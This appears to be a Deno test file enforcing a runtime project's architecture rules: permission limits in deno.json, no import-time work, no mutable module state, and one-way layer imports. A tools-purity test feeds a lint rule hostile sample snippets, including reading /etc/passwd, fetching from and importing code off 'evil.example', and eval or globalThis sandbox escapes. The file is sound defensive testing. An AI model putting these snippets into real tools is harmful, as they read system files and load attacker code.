/**
 * Architecture rules that no single module can check about itself: no ambient authority in the
 * task definitions, no work at import time, no module-level mutable state, and the layout rules
 * of STYLE.md.
 */
import assert from "node:assert/strict";
import { dirname, join, relative, resolve } from "node:path";
import { fileURLToPath } from "node:url";

const REPO = fileURLToPath(new URL("..", import.meta.url));
const CODE_FOLDERS = ["runtime", "jit", "tools", "images", "cli"];

function* sourceFiles(dir: string): Generator<string> {
  for (const entry of Deno.readDirSync(dir)) {
    const path = join(dir, entry.name);
    if (entry.isDirectory) {
      if (entry.name === "fixtures") continue;
      yield* sourceFiles(path);
    } else if (entry.name.endsWith(".ts")) {
      yield path;
    }
  }
}

Deno.test("deno.json tasks never grant -A, --allow-all, FFI or unscoped network (DESIGN §11)", () => {
  const config = JSON.parse(Deno.readTextFileSync(join(REPO, "deno.json")));
  const tasks = config.tasks as Record<string, string>;
  for (const name of ["demo", "test", "ok", "bench", "libos"]) {
    assert.ok(tasks[name], `task ${name} exists`);
  }
  for (const [name, command] of Object.entries(tasks)) {
    const words = command.split(/\s+/);
    assert.ok(!words.includes("-A") && !words.includes("--allow-all"), `${name}: ${command}`);
    assert.ok(!words.some((w) => w.startsWith("--allow-ffi")), `${name} grants FFI`);
    assert.ok(!words.includes("--allow-net"), `${name} grants unscoped network`);
  }
});

/** The package's entry points (deno.json `exports`): the embedded API and the test kit. */
const ENTRY_POINTS = ["mod.ts", "testing.ts"] as const;
/** A function each entry point exports, which the import-time probe prints the type of. */
const PROBED = { "mod.ts": "createRuntime", "testing.ts": "testRuntime" } as const;

for (const entry of ENTRY_POINTS) {
  Deno.test(`importing ${entry} does no work at import time: it loads with no permissions and prints nothing`, async () => {
    const probeDir = Deno.makeTempDirSync({ prefix: "libos-import-" });
    try {
      const probe = join(probeDir, "probe.ts");
      Deno.writeTextFileSync(
        probe,
        `import * as libos from ${
          JSON.stringify(new URL(`../${entry}`, import.meta.url).href)
        };\nconsole.log(typeof libos.${PROBED[entry]});\n`,
      );
      const output = await new Deno.Command(Deno.execPath(), {
        args: ["run", "--quiet", "--no-prompt", `--config=${join(REPO, "deno.json")}`, probe],
        env: { DENO_NO_UPDATE_CHECK: "1", NO_COLOR: "1" },
        stdout: "piped",
        stderr: "piped",
      }).output();
      const stderr = new TextDecoder().decode(output.stderr);
      assert.equal(output.code, 0, stderr);
      assert.equal(new TextDecoder().decode(output.stdout), "function\n");
      assert.equal(stderr, "");
    } finally {
      Deno.removeSync(probeDir, { recursive: true });
    }
  });
}

Deno.test("deno.json exports exactly the two entry points: mod.ts and testing.ts", () => {
  const config = JSON.parse(Deno.readTextFileSync(join(REPO, "deno.json")));
  assert.deepEqual(config.exports, { ".": "./mod.ts", "./testing": "./testing.ts" });
});

Deno.test("mod.ts never reaches testing.ts: no test fake is part of the embedded API", () => {
  const seen = new Set<string>();
  const pending = [join(REPO, "mod.ts")];
  while (pending.length > 0) {
    const file = pending.pop()!;
    if (seen.has(file)) continue;
    seen.add(file);
    for (const spec of relativeImports(Deno.readTextFileSync(file))) {
      pending.push(resolve(dirname(file), spec));
    }
  }
  assert.ok(seen.has(join(REPO, "runtime", "runtime.ts")), "the walk follows mod.ts's imports");
  assert.ok(!seen.has(join(REPO, "testing.ts")), "mod.ts imports testing.ts");
  // The entry point re-exports names one by one, so each carries its own doc comment.
  assert.doesNotMatch(Deno.readTextFileSync(join(REPO, "mod.ts")), /export \*/);
});

Deno.test("every name mod.ts and testing.ts export carries a doc comment (read by deno doc)", async () => {
  for (const entry of ENTRY_POINTS) {
    const output = await new Deno.Command(Deno.execPath(), {
      args: ["doc", "--json", `--config=${join(REPO, "deno.json")}`, join(REPO, entry)],
      env: { DENO_NO_UPDATE_CHECK: "1", NO_COLOR: "1" },
      stdout: "piped",
      stderr: "null",
    }).output();
    assert.equal(output.code, 0, `deno doc ${entry}`);
    const doc = JSON.parse(new TextDecoder().decode(output.stdout)) as {
      nodes: Record<string, {
        symbols: { name: string; declarations: { jsDoc?: { doc?: string } }[] }[];
      }>;
    };
    const symbols = Object.values(doc.nodes).flatMap((node) => node.symbols);
    assert.ok(symbols.length > 10, `${entry} exports its names`);
    const undocumented = symbols
      .filter((s) => !s.declarations.some((d) => (d.jsDoc?.doc ?? "").trim() !== ""))
      .map((s) => s.name);
    assert.deepEqual(undocumented, [], `${entry}: names without a doc comment`);
  }
});

Deno.test("no module keeps module-level mutable state (top-level let/var or mutable containers)", () => {
  const offenders: string[] = [];
  const mutable =
    /^(export\s+)?(let|var)\s|^(export\s+)?const\s+\w+(\s*:[^=]+)?=\s*(new\s+(Map|Set|WeakMap|WeakSet|Array)\b|\[\s*\]|\{\s*\})/;
  for (const folder of [...CODE_FOLDERS, ...ENTRY_POINTS]) {
    const root = join(REPO, folder);
    const files = folder.endsWith(".ts") ? [root] : [...sourceFiles(root)];
    for (const file of files) {
      if (file.endsWith("_test.ts")) continue;
      Deno.readTextFileSync(file).split("\n").forEach((line, i) => {
        if (mutable.test(line)) offenders.push(`${relative(REPO, file)}:${i + 1}: ${line.trim()}`);
      });
    }
  }
  assert.deepEqual(offenders, []);
});

Deno.test("every code folder has a mod.ts and none has an index.ts", () => {
  for (const folder of CODE_FOLDERS) {
    assert.ok(Deno.statSync(join(REPO, folder, "mod.ts")).isFile, `${folder}/mod.ts`);
    for (const file of sourceFiles(join(REPO, folder))) {
      assert.notEqual(file.split("/").pop(), "index.ts", file);
    }
  }
});

Deno.test("private helper files (_name.ts) are never imported from another folder", () => {
  const offenders: string[] = [];
  const importPattern = /(?:from|import)\s*\(?\s*"(\.{1,2}\/[^"]+)"/g;
  for (const folder of [...CODE_FOLDERS, "tests"]) {
    for (const file of sourceFiles(join(REPO, folder))) {
      for (const match of Deno.readTextFileSync(file).matchAll(importPattern)) {
        const target = resolve(dirname(file), match[1]!);
        if (target.split("/").pop()!.startsWith("_") && dirname(target) !== dirname(file)) {
          // Tests beside a module may import its private helpers; tests/ may not.
          offenders.push(`${relative(REPO, file)} imports ${relative(REPO, target)}`);
        }
      }
    }
  }
  assert.deepEqual(offenders, []);
});

Deno.test("tools/ is pure: no file under it touches Deno, fetch, node:*, a provider or a global escape hatch (parsed by Deno)", async () => {
  const { default: plugin } = await import("./lint/tools_purity.ts");
  const tools = join(REPO, "tools");
  const files = [...sourceFiles(tools)];
  assert.ok(files.length >= 3, "the built-in tools are there");
  for (const file of files) {
    const diagnostics = Deno.lint.runPlugin(plugin, file, Deno.readTextFileSync(file));
    assert.deepEqual(diagnostics.map((d) => d.message), [], relative(REPO, file));
  }
  // The rule catches each way out (attack: a tool that reaches past its context).
  const hostile: [string, string][] = [
    ["Deno namespace", 'export const t = () => Deno.readTextFileSync("/etc/passwd");'],
    ["fetch", 'export const t = () => fetch("https://evil.example");'],
    ["node: import", 'import { readFileSync } from "node:fs";'],
    ["npm import", 'import x from "npm:left-pad";'],
    ["remote import", 'import x from "https://evil.example/x.ts";'],
    ["provider import", 'import { hostFilesystem } from "../runtime/providers/filesystem.ts";'],
    [
      "primitive import",
      'export { FilesystemPrimitive } from "../runtime/primitives/filesystem.ts";',
    ],
    ["re-export all", 'export * from "../runtime/runtime.ts";'],
    ["dynamic import", 'export const t = () => import("node:fs");'],
    ["import.meta", "export const t = () => import.meta.url;"],
    ["globalThis", 'export const t = () => (globalThis as Record<string, unknown>)["De" + "no"];'],
    ["eval", 'export const t = () => eval("1");'],
    ["Function constructor", 'export const t = () => Function("return this")();'],
    ["WebAssembly", "export const t = () => WebAssembly.compile(new Uint8Array());"],
    ["Worker", 'export const t = () => new Worker("data:,");'],
    ["self", "export const t = () => self;"],
  ];
  for (const [name, source] of hostile) {
    const found = Deno.lint.runPlugin(plugin, join(tools, "evil.ts"), source);
    assert.ok(found.length > 0, `the rule misses: ${name}`);
  }
  // A property that merely shares a banned name is fine.
  const benign =
    "export const t = { fetch: 1, Deno: 2 }; export const u = (o: { self: number }) => o.self;";
  assert.deepEqual(Deno.lint.runPlugin(plugin, join(tools, "ok.ts"), benign), []);
});

/**
 * The folders in the order a turn's layers build on each other (DESIGN §3): a file may import
 * from its own folder and from folders before it, never from one after it. `import type` counts
 * too — a lower layer that needs a higher one's shape declares the shape itself. Tests beside a
 * module (`*_test.ts`) are exempt: they assemble whole runtimes to test one layer.
 */
const LAYERS = [
  "runtime/base",
  "runtime/providers",
  "runtime/store",
  "runtime/audit",
  "runtime/authority",
  "runtime/policy",
  "runtime/process",
  "runtime/human",
  "runtime/memory",
  "runtime/primitives",
  "runtime/kernel",
  "runtime/broker",
  "runtime/model",
  "tools",
  "images",
  "runtime",
  "jit",
  "cli",
  ".",
] as const;

/** The layer a repository-relative path belongs to: the longest folder of LAYERS holding it. */
function layerOf(path: string): number {
  let best = -1;
  let bestLength = -1;
  LAYERS.forEach((folder, i) => {
    const holds = folder === "." ? !path.includes("/") : path.startsWith(`${folder}/`);
    if (holds && folder.length > bestLength) [best, bestLength] = [i, folder.length];
  });
  return best;
}

/** Every relative import of a file, static, re-exported, type-only or dynamic. */
function relativeImports(source: string): string[] {
  const pattern = /(?:\bfrom\s*|\bimport\s*\(\s*|\bimport\s+)"(\.{1,2}\/[^"]+)"/g;
  return [...source.matchAll(pattern)].map((m) => m[1]!);
}

function layerViolations(): string[] {
  const offenders: string[] = [];
  const files = [...CODE_FOLDERS.flatMap((f) => [...sourceFiles(join(REPO, f))])];
  files.push(...ENTRY_POINTS.map((entry) => join(REPO, entry)));
  for (const file of files) {
    if (file.endsWith("_test.ts")) continue;
    const from = relative(REPO, file);
    const fromLayer = layerOf(from);
    assert.ok(fromLayer >= 0, `${from} belongs to no layer: add its folder to LAYERS`);
    for (const spec of relativeImports(Deno.readTextFileSync(file))) {
      const to = relative(REPO, resolve(dirname(file), spec));
      const toLayer = layerOf(to);
      if (toLayer > fromLayer) {
        offenders.push(`${from} (${LAYERS[fromLayer]}) imports ${to} (${LAYERS[toLayer]})`);
      }
    }
  }
  return offenders;
}

Deno.test("imports point one way between folders: none from a lower layer to a higher one", () => {
  assert.deepEqual(layerViolations(), []);
});

Deno.test("the layer check sees every kind of import and catches an upward one (attack: a base module reaching into the kernel)", () => {
  const kinds = [
    'import { x } from "../kernel/scheduler.ts";',
    'import type { X } from "../kernel/scheduler.ts";',
    'export { x } from "../kernel/scheduler.ts";',
    'export * from "../kernel/scheduler.ts";',
    'const m = await import("../kernel/scheduler.ts");',
    'import "../kernel/scheduler.ts";',
  ];
  for (const line of kinds) {
    const [spec] = relativeImports(line);
    assert.equal(spec, "../kernel/scheduler.ts", line);
    const to = relative(REPO, resolve(join(REPO, "runtime/base"), spec!));
    assert.ok(layerOf(to) > layerOf("runtime/base/errors.ts"), line);
  }
  assert.equal(LAYERS[layerOf("runtime/runtime.ts")], "runtime");
  assert.equal(LAYERS[layerOf("runtime/policy/shell_argv.ts")], "runtime/policy");
  assert.equal(LAYERS[layerOf("mod.ts")], ".");
  assert.equal(LAYERS[layerOf("testing.ts")], ".");
  assert.equal(layerOf("docs/x.ts"), -1);
});

Deno.test("the runtime folder holds only the assembly: every other file sits in a layer folder", () => {
  const loose = [...Deno.readDirSync(join(REPO, "runtime"))]
    .filter((e) => e.isFile && !["runtime.ts", "runtime_test.ts", "mod.ts"].includes(e.name))
    .map((e) => e.name);
  assert.deepEqual(loose, []);
  for (const entry of Deno.readDirSync(join(REPO, "runtime"))) {
    if (entry.isDirectory) assert.ok(LAYERS.includes(`runtime/${entry.name}` as never), entry.name);
  }
});
